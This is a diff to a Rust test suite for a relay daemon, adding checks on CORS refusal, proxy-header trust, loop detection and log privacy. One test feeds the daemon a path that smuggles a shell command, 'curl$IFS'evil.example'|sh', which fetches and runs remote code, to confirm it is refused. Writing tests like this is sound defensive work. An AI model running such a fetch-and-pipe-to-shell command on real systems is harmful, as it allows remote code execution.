@@ -2,9 +2,9 @@
 
 use base64::Engine as _;
 use base64::prelude::BASE64_STANDARD;
-use bondgate::simulator::{Endpoint, Handle, Options, Seen};
+use bondgate::simulator::{Fault, Handle, Kind, On, Options};
 
-use crate::harness::{Answer, DEMO_SECRET, Daemon, PULL, Setup, simulator};
+use crate::harness::{Answer, DEMO_SECRET, Daemon, PULL, Setup, relayed, send, simulator};
 
 /// A daemon whose one listener has this further TOML.
 async fn daemon(listener: &str) -> (Handle, Daemon) {
@@ -28,12 +28,6 @@ async fn ask(daemon: &Daemon, method: &str, path: &str, fields: &[(&str, &str)])
 
 async fn pull(daemon: &Daemon, fields: &[(&str, &str)]) -> Answer {
     ask(daemon, "GET", PULL, fields).await
-}
-
-fn relayed(cisco: &Handle) -> Vec<Seen> {
-    let seen = cisco.seen().into_iter();
-    seen.filter(|request| request.endpoint != Endpoint::Token)
-        .collect()
 }
 
 /// A refusal is a whole answer that says that it is ours, why, and what to do.
@@ -96,6 +90,13 @@ async fn what_a_web_page_sends_gets_403_and_a_listed_origin_is_let_in() {
         ("Access-Control-Request-Method", "GET"),
     ];
     assert_refused(&ask(&daemon, "OPTIONS", PULL, &preflight).await, 403, "web page");
+    let listed = [
+        ("Origin", "https://itsm.example"),
+        ("Access-Control-Request-Method", "PUT"),
+    ];
+    for method in ["OPTIONS", "GET", "POST", "DELETE"] {
+        assert_refused(&ask(&daemon, method, PULL, &listed).await, 403, "web page");
+    }
     assert!(relayed(&cisco).is_empty());
 
     let listed = [
@@ -103,6 +104,103 @@ async fn what_a_web_page_sends_gets_403_and_a_listed_origin_is_let_in() {
         ("Sec-Fetch-Site", "cross-site"),
     ];
     assert_eq!(pull(&daemon, &listed).await.status(), 200);
+    let origin = relayed(&cisco).pop().unwrap().header("origin").len();
+    assert_eq!(origin, 0, "Cisco's own rules for pages are not asked");
+}
+
+#[tokio::test]
+async fn a_navigation_is_refused_with_a_curl_line_and_the_admin_address() {
+    let (cisco, daemon) = daemon("").await;
+    let place = daemon.address();
+    for field in [
+        ("Sec-Fetch-Mode", "navigate"),
+        // All that a browser says to an address in a network.
+        ("Upgrade-Insecure-Requests", "1"),
+    ] {
+        let host = place.to_string();
+        let answer = pull(&daemon, &[("Host", &host), field]).await;
+        assert_refused(&answer, 403, &format!("`curl -i http://{place}{PULL}`"));
+        assert_refused(&answer, 403, &format!("is at http://{}", daemon.admin()));
+        let link = ask(&daemon, "GET", "/x&curl$IFS'evil.example'|sh", &[field]).await;
+        assert_refused(&link, 403, "`curl -i http://localhost/`");
+    }
+    assert!(relayed(&cisco).is_empty());
+}
+
+#[tokio::test]
+async fn no_cors_header_ever_leaves() {
+    let (cisco, daemon) = daemon("origins = [\"https://itsm.example\"]").await;
+    let origin = ("Origin", "https://itsm.example");
+    let mut answers = vec![
+        pull(&daemon, &[origin]).await,
+        pull(&daemon, &[("Origin", "https://evil.example")]).await,
+        ask(
+            &daemon,
+            "OPTIONS",
+            PULL,
+            &[origin, ("Access-Control-Request-Method", "GET")],
+        )
+        .await,
+        ask(&daemon, "GET", "/nowhere", &[origin]).await,
+        pull(&daemon, &[origin, ("Host", "evil.example")]).await,
+    ];
+    let bytes = "HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\naccess-control-expose-headers: a\r\n\
+                 Access-Control-Anything: b\r\nTiming-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n";
+    let bytes = bytes.into();
+    cisco.script(Fault::on(On::Pull, Kind::Raw { bytes }));
+    answers.push(pull(&daemon, &[origin]).await);
+    for path in ["/", "/status.json", "/metrics", "/livez", "/readyz", "/nowhere"] {
+        for origin in [
+            "https://itsm.example".to_owned(),
+            format!("http://{}", daemon.admin()),
+        ] {
+            let request = format!(
+                "GET {path} HTTP/1.1\r\nHost: {}\r\nOrigin: {origin}\r\nConnection: close\r\n\r\n",
+                daemon.admin()
+            );
+            answers.push(send(daemon.admin(), request).await);
+        }
+    }
+    let statuses: Vec<u16> = answers.iter().map(Answer::status).collect();
+    assert_eq!(statuses[..6], [200, 403, 403, 403, 421, 200]);
+    for answer in answers {
+        let head = answer.0.to_ascii_lowercase();
+        let head = head.split("\r\n\r\n").next().unwrap();
+        assert!(
+            !head.contains("\naccess-control-") && !head.contains("\ntiming-"),
+            "{answer:?}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn the_log_says_by_name_who_called_and_names_nobody_who_was_refused() {
+    let cisco = simulator(Options::default()).await;
+    let setup = Setup::new().upstream("cisco", &cisco, "demo", DEMO_SECRET, "");
+    let keys = setup.file("callers", "snow:k1-of-snow\nmid:k2-of-mid\n");
+    let mut daemon = setup
+        .listener("127.0.0.1:0", &format!("keys = {{ file = {keys:?} }}"))
+        .start()
+        .await;
+    let basic = format!("Basic {}", BASE64_STANDARD.encode("snow:k1-of-snow"));
+    assert_eq!(pull(&daemon, &[("Authorization", &basic)]).await.status(), 200);
+    assert_eq!(
+        pull(&daemon, &[("X-Bondgate-Key", "k2-of-mid")]).await.status(),
+        200
+    );
+    assert_eq!(
+        pull(&daemon, &[("X-Bondgate-Key", "k3-of-evil")]).await.status(),
+        401
+    );
+    daemon.logged("\"caller\":\"snow\"").await;
+    daemon.logged("\"caller\":\"mid\"").await;
+    daemon.logged("\"status\":401").await;
+    let log = daemon.log();
+    let refused = log.iter().find(|line| line.contains("\"status\":401")).unwrap();
+    assert!(!refused.contains("\"caller\""), "{refused}");
+    for line in log.iter().filter(|line| line.contains("\"caller\"")) {
+        assert!(!line.contains("-of-"), "{line}");
+    }
 }
 
 #[tokio::test]
@@ -177,7 +275,10 @@ async fn a_trusted_proxy_names_the_caller() {
         ("192.0.2.1, 10.20.0.1", 200),
         ("10.20.0.1, 10.9.0.1", 200),
         ("10.20.0.1, 192.0.2.1", 403),
+        ("10.20.0.1:4711", 200),
+        ("[::ffff:10.20.0.1]:4711, ::ffff:127.0.0.1", 200),
         ("10.20.0.1, what", 403),
+        ("unknown", 403),
         ("", 403),
     ] {
         let answer = pull(&daemon, &[("X-Forwarded-For", forwarded)]).await;
@@ -185,6 +286,8 @@ async fn a_trusted_proxy_names_the_caller() {
     }
     let lines = [("X-Forwarded-For", "192.0.2.1"), ("X-Forwarded-For", "10.20.0.1")];
     assert_eq!(pull(&daemon, &lines).await.status(), 200);
+    let lines = [("X-Forwarded-For", "10.20.0.1"), ("X-Forwarded-For", "192.0.2.1")];
+    assert_eq!(pull(&daemon, &lines).await.status(), 403);
 }
 
 #[tokio::test]
@@ -232,7 +335,11 @@ async fn a_path_that_can_be_read_in_two_ways_gets_400() {
 #[tokio::test]
 async fn a_request_that_has_been_here_before_gets_508() {
     let (cisco, daemon) = daemon("").await;
-    for via in ["1.1 bondgate", "1.0 fred, 1.1 bondgate"] {
+    for via in [
+        "1.1 bondgate",
+        "1.0 fred, 1.1 bondgate",
+        "HTTP/1.1 BondGate (x),1.1 fred",
+    ] {
         assert_refused(&pull(&daemon, &[("Via", via)]).await, 508, "leads back here");
     }
     assert!(relayed(&cisco).is_empty());
